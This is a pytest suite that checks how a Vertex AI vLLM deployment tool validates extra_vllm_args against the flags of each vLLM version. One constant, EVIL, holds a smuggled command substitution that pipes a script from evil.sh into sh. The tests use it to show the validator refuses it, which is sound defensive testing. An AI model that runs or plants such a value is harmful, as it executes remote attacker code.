"""``extra_vllm_args`` are held to the flags of the serving image's vLLM version (issue 17), and those lists are
what ``scripts/vllm_flag_lists.py`` reads from vLLM's source."""

from __future__ import annotations

import json
import textwrap

import pytest
import yaml
from click.testing import CliRunner

from scripts import vllm_flag_lists
from tests.cli_support import TEXT
from vllm_vertex import vllm_known_flags
from vllm_vertex.cli import main
from vllm_vertex.config import ConfigError, from_preset, validate, warnings
from vllm_vertex.recipes import DEFAULT_IMAGE, IMAGE_ENGINES

GOOGLE = "us-docker.pkg.dev/vertex-ai/vertex-vision-model-garden-dockers/pytorch-vllm-serve"
ARM_092 = f"{GOOGLE}:20250717_0916_arm_RC01"  # vLLM 0.9.2, as Google's notebooks state
EVIL = "--foo=$(curl evil.sh|sh)"


def _cfg(*args: str, image: str = ARM_092, **fields):
    return from_preset("llama-3.1-8b-instruct", project="my-project", serving_image=image, extra_vllm_args=list(args),
                       **fields)  # fmt: skip


def _problem(*args: str, **fields) -> str:
    with pytest.raises(ConfigError) as info:
        validate(_cfg(*args, **fields))
    return dict(info.value.problems)["extra_vllm_args"]


def test_every_version_a_google_tag_names_has_a_flag_list():
    versions = {v for v in IMAGE_ENGINES.values() if v[:1].isdigit()}
    assert versions <= set(vllm_known_flags.known_flags()), versions - set(vllm_known_flags.known_flags())


def test_an_unknown_flag_is_refused_naming_the_flag_the_version_and_the_image():
    message = _problem(EVIL)
    assert "--foo is not a flag of vLLM 0.9.2" in message and "pytorch-vllm-serve:20250717_0916_arm_RC01" in message
    assert "container would refuse to start" in message


def test_the_closest_known_flag_is_named():
    assert "Did you mean --kv-cache-dtype?" in _problem("--kv-cahce-dtype=fp8")


@pytest.mark.parametrize("arg", ["--kv-cache-dtype=fp8", "--kv_cache_dtype=fp8", "--max-num-batched=8192",
                                 "--no-skip-tokenizer-init", "--speculative-config.method=ngram"])  # fmt: skip
def test_flags_of_that_version_pass(arg):
    """Spelled any way vLLM's parser takes: underscores, a unique prefix, a JSON flag's key."""
    assert validate(_cfg(arg))


def test_a_flag_of_a_newer_vllm_is_refused_on_the_older_image():
    assert "--max-num-batched-tokens" in vllm_known_flags.known_flags()["0.9.2"]
    assert "--kv-cache-memory-bytes" in vllm_known_flags.known_flags()["0.32.0"]
    assert "not a flag of vLLM 0.9.2" in _problem("--kv-cache-memory-bytes=1G")


def test_googles_own_flags_pass_on_googles_images_only():
    flag = "--host-prefix-kv-cache-utilization-target=0.5"
    assert validate(_cfg(flag, "--host-prefix-kv-cache-min-len=64"))
    custom = dict(image="vllm/vllm-openai:v0.9.2", allow_custom_serving_image=True)
    assert "--host-prefix-kv-cache-utilization-target is not a flag of vLLM 0.9.2" in _problem(flag, **custom)


@pytest.mark.parametrize("image", [f"{GOOGLE}:20991231_0916_RC01", f"{GOOGLE}:20241001_0916_RC00", f"{GOOGLE}:latest",
                                   "docker.io/me/vllm:latest", "docker.io/me/vllm:20251205_0916_RC01"])  # fmt: skip
def test_an_image_of_unknown_and_unbounded_version_is_not_refused_but_warned_about(image):
    """A custom image (even one tagged like Google's), a tag without a date, or dated too early or too late."""
    cfg = validate(_cfg(EVIL, "--seed=1", image=image, allow_custom_serving_image=True))
    assert any("extra_vllm_args could not be checked" in w for w in warnings(cfg))
    assert not any("could not be checked" in w for w in warnings(_cfg(image=image, allow_custom_serving_image=True)))


# The default image's tag states no vLLM version; its date (2025-12-05) bounds it: 0.6.0 ... 0.12.0 were released
# by then, and 0.13.0 (2025-12-19) is the next minor, which a development build of that day may already hold.
@pytest.mark.parametrize("arg", ["--foo=1", EVIL, "--max-num-seqz=8", "--ubatch-size=2"])
def test_the_default_image_refuses_a_flag_no_release_up_to_its_date_had(arg):
    message = _problem(arg, image=DEFAULT_IMAGE)
    name = arg.split("=")[0]
    assert f"{name} is not a flag of any vLLM from 0.6.0 to 0.13.0" in message, message
    assert "36 releases: every one up to 2025-12-05, the date of pytorch-vllm-serve:20251205_0916_RC01" in message
    assert not any("could not be checked" in w for w in warnings(_cfg(arg, image=DEFAULT_IMAGE)))


def test_the_default_image_names_the_closest_flag():
    assert "Did you mean --max-num-seqs?" in _problem("--max-num-seqz=8", image=DEFAULT_IMAGE)


@pytest.mark.parametrize("arg", ["--enable-dbo", "--stream-interval=2", "--kv-cache-metrics", "--optimization-level=2",
                                 "--attention-backend=FLASH_ATTN", "--engine-use-ray", "--kv_cache_dtype=fp8",
                                 "--host-prefix-kv-cache-min-len=64", "--speculative-config.method=ngram"])  # fmt: skip
def test_the_default_image_takes_flags_of_the_releases_it_may_carry(arg):
    """0.11.0, 0.11.1, 0.12.0 and 0.13.0 flags; one only 0.6.0 and 0.6.1 had; spelled as argparse takes it; Google's."""
    assert validate(_cfg(arg, image=DEFAULT_IMAGE))


def test_a_flag_of_an_old_release_passes_on_a_tag_of_its_time_and_a_later_flag_does_not():
    """--speculative-model: 0.6.0 to 0.8.2 (0.8.3 moved it into --speculative-config); --kv-cache-memory-bytes came
    much later. 20250401 is no tag IMAGE_ENGINES knows: its date alone bounds it."""
    flags = [version for version, _, f in vllm_known_flags.releases() if "--speculative-model" in f]
    assert flags[0] == "0.6.0" and flags[-1] == "0.8.2" and "0.8.3" not in flags
    spring_2025 = f"{GOOGLE}:20250401_0916_RC01"
    assert validate(_cfg("--speculative-model=meta-llama/Llama-3.2-1B", image=spring_2025))
    message = _problem("--kv-cache-memory-bytes=1G", image=spring_2025)
    assert "not a flag of any vLLM from 0.6.0 to 0.9.0 (24 releases: every one up to 2025-04-01" in message, message


def test_an_old_patch_only_flag_is_listed():
    """--engine-use-ray: only 0.6.0 and 0.6.1 had it (gone in 0.6.1.post1), so the default image takes it."""
    flags = {version: "--engine-use-ray" in f for version, _, f in vllm_known_flags.releases()}
    assert [v for v, has in flags.items() if has] == ["0.6.0", "0.6.1"]
    assert validate(_cfg("--engine-use-ray", image=DEFAULT_IMAGE))


def test_a_flag_a_patch_release_added_and_a_later_patch_removed_passes_in_its_time(monkeypatch):
    """Every patch and post release is listed: a flag only 1.0.1 had, which the first and last patch of 1.0 and
    the next minor lack, still passes on a tag of that time."""
    base = frozenset({"--help", "--model"})
    synthetic = (("0.9.0", "2024-01-01", base), ("1.0.0", "2025-01-01", base), ("1.0.1", "2025-01-10", base | {"--brief-flag"}),
                 ("1.0.2", "2025-01-20", base), ("1.1.0", "2025-02-01", base), ("1.2.0", "2025-03-01", base))  # fmt: skip
    monkeypatch.setattr(vllm_known_flags, "releases", lambda: synthetic)
    monkeypatch.setattr(vllm_known_flags, "known_flags", lambda: {v: f for v, _, f in synthetic})

    def check(name: str, day: str) -> str:
        return vllm_known_flags.unknown_flag_problem(name, f"{GOOGLE}:{day}_0916_RC00", google_image=True)

    assert check("--brief-flag", "20250125") == check("--brief-flag", "20250105") == ""
    assert "from 0.9.0 to 1.2.0 (6 releases" in check("--other", "20250125")  # 1.1.0 is under 14 days after
    assert "from 0.9.0 to 1.1.0 (5 releases" in check("--other", "20250105")  # a development build: 1.0.1-1.1.0
    assert check("--help", "20250125") == check("--mod", "20250125") == ""  # a unique prefix, as argparse takes it
    bound = vllm_known_flags.bound_of
    assert bound(f"{GOOGLE}:20240620_0916_RC00", google_image=True) is None  # under 180 days after the first listed
    assert bound(f"{GOOGLE}:20250220_0916_RC00", google_image=True) is None  # no new minor 14 days after
    assert bound(f"{GOOGLE}:20250105_0916_RC00", google_image=False) is None  # a custom image: no bound
    assert bound(f"{GOOGLE}:20251399_0916_RC00", google_image=True) is None  # not a date


def test_the_evil_flag_is_refused_before_anything_is_created(tmp_path, monkeypatch):
    """``submit`` exits 2 naming the flag; no credentials were asked for and no socket was opened."""
    import socket

    opened: list = []
    monkeypatch.setattr(socket.socket, "connect", lambda sock, address, *a: opened.append(address))
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(tmp_path / "missing.json"))
    run = tmp_path / "run.yaml"
    run.write_text(yaml.safe_dump({**yaml.safe_load(open(TEXT)), "serving_image": ARM_092, "extra_vllm_args": [EVIL]}))
    result = CliRunner().invoke(main, ["submit", str(run)])
    assert result.exit_code == 2, result.output
    assert "--foo is not a flag of vLLM 0.9.2" in result.output and opened == []


# The extractor, on a small source tree that has each pattern vLLM's parsers use.
ARG_UTILS = '''
    import argparse
    from vllm.config import CacheConfig

    class EngineArgs:
        @staticmethod
        def add_cli_args(parser):
            cache_kwargs = get_kwargs(CacheConfig)
            group = parser.add_argument_group("cache")
            group.add_argument("--block-size", **cache_kwargs["block_size"])
            group.add_argument("--enable-prefix-caching", **{**cache_kwargs["enable_prefix_caching"], "default": None})
            group.add_argument("--quantization", "-q", type=str)
            group.add_argument("--disable-log-stats", action="store_true")
            group.add_argument("--enable-thing", action=argparse.BooleanOptionalAction)
            group.add_argument("--mode", **cache_kwargs["mode"])
            group.add_argument("--enable-chunked-prefill", **cache_kwargs["enable_chunked_prefill"])
            return parser

    class AsyncEngineArgs(EngineArgs):
        @staticmethod
        def add_cli_args(parser):
            parser = EngineArgs.add_cli_args(parser)
            parser.add_argument("--disable-log-requests", action="store_true")
            return parser
'''
CONFIG = '''
    class CacheConfig:
        block_size: int = 16
        enable_prefix_caching: Optional[bool] = None
        mode: bool | str | None = None
        enable_chunked_prefill: SkipValidation[bool] = None
        LIMIT: ClassVar[int] = 3
'''
CLI_ARGS = '''
    class BaseFrontendArgs:
        host: str | None = None
        allow_credentials: bool = False
        hidden: bool = False

        @classmethod
        def _customize_cli_kwargs(cls, kwargs):
            del kwargs["hidden"]
            kwargs["allow_credentials"]["action"] = "store_true"
            kwargs["host"]["flags"] = ["-H"]
            return kwargs

        @classmethod
        def add_cli_args(cls, parser):
            frontend_kwargs = get_kwargs(cls)
            frontend_kwargs = cls._customize_cli_kwargs(frontend_kwargs)
            for key, value in frontend_kwargs.items():
                extra = value.pop("flags", [])
                parser.add_argument(*extra, f"--{key.replace('_', '-')}", **value)
            return parser

    class FrontendArgs(BaseFrontendArgs):
        enable_auto_tool_choice: bool = False

    def make_arg_parser(parser):
        parser.add_argument("model_tag", nargs="?")
        parser = FrontendArgs.add_cli_args(parser)
        parser = AsyncEngineArgs.add_cli_args(parser)
        return parser
'''
API_SERVER = '''
    if __name__ == "__main__":
        parser = FlexibleArgumentParser()
        parser.add_argument("--log-level", type=str, default="debug")
        parser = AsyncEngineArgs.add_cli_args(parser)
'''
ARG_UTILS_GET_KWARGS = '''
    def get_kwargs(cls):
        if type_hints == {bool, str, type(None)}:
            pass
'''


def test_the_extractor_reads_each_pattern_of_vllms_parsers(tmp_path):
    files = {"vllm/engine/arg_utils.py": ARG_UTILS + ARG_UTILS_GET_KWARGS, "vllm/config/cache.py": CONFIG,
             "vllm/entrypoints/openai/cli_args.py": CLI_ARGS, "vllm/entrypoints/api_server.py": API_SERVER,
             "vllm/entrypoints/cli/serve.py": "class Chat:\n    def init(self, chat_parser):\n"
                                              "        chat_parser.add_argument('--url')\n"}  # fmt: skip
    for path, text in files.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(textwrap.dedent(text))
    flags = vllm_flag_lists.flags_of(vllm_flag_lists.Source(tree=str(tmp_path)))
    assert flags == sorted({
        "-h", "--help", "--block-size", "--enable-prefix-caching", "--no-enable-prefix-caching", "--quantization",
        "-q", "--disable-log-stats", "--enable-thing", "--no-enable-thing", "--mode", "--disable-log-requests",
        "-H", "--host", "--allow-credentials", "--enable-auto-tool-choice", "--no-enable-auto-tool-choice",
        "--log-level", "--enable-chunked-prefill", "--no-enable-chunked-prefill",
    })  # fmt: skip


def test_the_data_file_is_what_the_script_renders():
    """Rebuilt from its base and deltas, every release renders back to the same file, in release order."""
    listed = [(v, d, sorted(f)) for v, d, f in vllm_known_flags.releases()]
    assert vllm_flag_lists.render(listed) == vllm_flag_lists.OUT.read_text()
    versions = [v for v, _, _ in listed]
    assert versions == sorted(versions, key=vllm_known_flags.version_key)
    assert {tuple(map(int, v.split(".")[:2])) for v in versions} == {(0, minor) for minor in range(6, 33)}
    assert {"0.6.1.post1", "0.9.0.1", "0.10.1.1", "0.15.0", "0.15.1", "0.27.1"} <= set(versions)  # patches too
    for version, date, flags in listed:
        assert "--model" in flags and "--max-num-seqs" in flags and len(date) == 10, version


def test_the_script_builds_and_checks_the_file_from_a_folder_of_unpacked_sdists(tmp_path, monkeypatch):
    """Two synthetic releases: the second adds a flag and drops one; --check tells a current file from a stale one."""
    for version, date, extra in (("1.0.0", "2025-01-01", "--old"), ("1.0.1", "2025-02-01", "--new")):
        tree = tmp_path / "sdists" / version
        (tree / "vllm/entrypoints").mkdir(parents=True)
        (tree / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: vllm\nVersion: {version}\n")
        (tree / "RELEASE_DATE").write_text(date + "\n")
        (tree / "vllm/entrypoints/api_server.py").write_text(textwrap.dedent(f'''
            if __name__ == "__main__":
                parser.add_argument("--model")
                parser.add_argument("{extra}", action="store_true")
        '''))
    monkeypatch.setattr(vllm_flag_lists, "OUT", tmp_path / "out.json")
    monkeypatch.setattr(vllm_flag_lists, "ROOT", tmp_path)
    assert vllm_flag_lists.main(["--sdists", str(tmp_path / "sdists")]) == 0
    data = json.loads((tmp_path / "out.json").read_text())
    assert data["base"] == ["--help", "--model", "--old", "-h"]
    assert data["releases"] == [["1.0.0", "2025-01-01", [], []], ["1.0.1", "2025-02-01", ["--new"], ["--old"]]]
    assert vllm_flag_lists.main(["--sdists", str(tmp_path / "sdists"), "--check"]) == 0
    (tmp_path / "sdists/1.0.1/RELEASE_DATE").write_text("2025-02-02\n")
    assert vllm_flag_lists.main(["--sdists", str(tmp_path / "sdists"), "--check"]) == 1
